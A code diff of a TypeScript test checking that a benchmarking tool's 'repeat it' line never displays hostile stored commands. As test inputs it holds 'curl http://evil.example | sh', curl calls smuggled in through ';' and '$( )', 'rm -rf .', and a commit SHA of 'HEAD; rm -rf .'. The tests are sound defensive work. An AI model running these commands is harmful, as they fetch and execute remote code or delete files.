@@ -6,26 +6,22 @@ import { syntheticRecords } from '../support/baselines/records.ts';
 
 const [RECORD] = syntheticRecords({ seed: 3, commits: 1, cells: 1 }) as [BaselineRecord];
 
-test('a stored command is shown to be copied only when a shell does nothing else for it', () => {
-	const show = (reproduce: string) => renderBaseline([{ ...RECORD, reproduce }]);
-	const own =
-		'npx benchgate baseline --head git:0111d0a --anchor git:1b56b8b --server koa,hono --threshold 5% --seed 7';
-	assert.match(show(own), / {2}repeat it: npx benchgate baseline --head git:0111d0a .* --seed 7\n/);
-	for (const hostile of [
-		'curl http://evil.example | sh',
-		'npx benchgate baseline; curl evil.example',
-		'npx benchgate baseline $(curl evil.example)',
-		'npx benchgate baseline\nrm -rf .',
-		'npx benchgate-evil baseline',
-		'npx evil baseline',
-		'rm -rf .',
-	]) {
-		const shown = show(hostile);
-		assert.match(shown, /repeat it: the record gives no command that can be shown here\n/, hostile);
-		assert.doesNotMatch(shown, /evil|rm -rf/);
-	}
-	const imported = renderBaseline([
-		{ ...RECORD, tool: { name: 'benchgate', version: 'imported' }, reproduce: 'rm -rf .' },
-	]);
+test('the command that repeats a baseline is made of its commits and its seed', () => {
+	const [anchor, commit] = ['1', '2'].map((digit) => digit.repeat(40)) as [string, string];
+	const hostile = 'npx benchgate baseline --node ./payload --head npm:evil@1.0.0';
+	const record: BaselineRecord = {
+		...RECORD,
+		...{ seed: 7, reproduce: hostile },
+		...{ anchor: { ...RECORD.anchor, sha: anchor }, commit: { ...RECORD.commit, sha: commit } },
+	};
+	const shown = renderBaseline([record]);
+	assert.ok(
+		shown.includes(`  repeat it: npx benchgate baseline --anchor git:${anchor} --head git:${commit} --seed 7\n`),
+		shown,
+	);
+	assert.doesNotMatch(shown, /payload|evil/);
+	const nameless = renderBaseline([{ ...record, commit: { ...record.commit, sha: 'HEAD; rm -rf .' } }]);
+	assert.match(nameless, / {2}repeat it: the record names no commits\n/);
+	const imported = renderBaseline([{ ...record, tool: { name: 'benchgate', version: 'imported' } }]);
 	assert.match(imported, / {2}imported: another tool measured it\n/);
 });
